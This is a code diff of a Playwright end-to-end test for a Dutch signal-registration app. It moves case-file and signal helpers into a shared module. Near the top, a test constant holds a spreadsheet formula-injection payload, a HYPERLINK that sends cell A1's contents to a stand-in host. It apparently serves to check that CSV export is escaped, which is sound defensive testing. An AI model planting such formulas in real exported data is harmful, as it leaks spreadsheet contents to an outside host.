@@ -4,35 +4,12 @@ import type { Page } from '@playwright/test';
 import { strFromU8, unzipSync } from 'fflate';
 import Papa from 'papaparse';
 import { expect, expectAccessible, test } from './support/fixtures';
+import { createCaseFile, registerSignal } from './support/caseFileSteps';
 
 const HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1;"Klik hier")';
 const TITLES = ['Onrust bij het buurthuis', HOSTILE, 'Pamfletten bij de moskee', 'Rustige bijeenkomst'];
 
 const menu = (page: Page) => page.getByRole('navigation', { name: 'Hoofdmenu' });
-
-async function createCaseFile(page: Page, bridge: { dialogs: { next: string | null } }, workDir: string): Promise<void> {
-  bridge.dialogs.next = path.join(workDir, 'bulk.ess');
-  await page.getByRole('button', { name: 'Nieuw casusbestand' }).click();
-  await page.getByRole('button', { name: 'Locatie kiezen…' }).click();
-  await page.getByLabel('Wachtwoord', { exact: true }).fill('Signalen in de polder 2026!');
-  await page.getByLabel('Herhaal wachtwoord').fill('Signalen in de polder 2026!');
-  await page.getByLabel('Naam').fill('Fatima el Amrani');
-  await page.getByLabel('Initialen').fill('FeA');
-  await page.getByRole('button', { name: 'Casusbestand aanmaken' }).click();
-  await expect(page.getByText('Aan het werk: Fatima el Amrani')).toBeVisible();
-}
-
-async function registerSignal(page: Page, title: string): Promise<void> {
-  await page.keyboard.press('Control+n');
-  await expect(page.getByRole('heading', { name: 'Nieuw signaal', level: 1 })).toBeVisible();
-  await page.getByLabel('Titel').fill(title);
-  await page.getByLabel('Beschrijving (feiten)').fill(`Beschrijving van ${title}`);
-  await page.getByRole('combobox', { name: 'Gemeenten' }).fill('Zwolle');
-  await page.getByRole('option', { name: /^Zwolle/ }).first().click();
-  await page.getByRole('checkbox', { name: 'Polarisatie' }).check();
-  await page.keyboard.press('Control+Enter');
-  await expect(page.getByRole('heading', { name: title, level: 1 })).toBeVisible();
-}
 
 async function createAction(page: Page, description: string): Promise<void> {
   await menu(page).getByRole('button', { name: 'Acties' }).click();
@@ -103,8 +80,8 @@ test('bulk status change of three signals, export of the filtered list to CSV an
 }) => {
   test.setTimeout(180_000);
   await page.setViewportSize({ width: 1366, height: 768 });
-  await createCaseFile(page, bridge, workDir);
-  for (const title of TITLES) await registerSignal(page, title);
+  await createCaseFile(page, bridge, workDir, 'bulk.ess');
+  for (const title of TITLES) await registerSignal(page, title, 'Zwolle');
 
   await menu(page).getByRole('button', { name: 'Signalen' }).click();
   await expect(page.getByRole('heading', { name: 'Signalen', level: 1 })).toBeVisible();
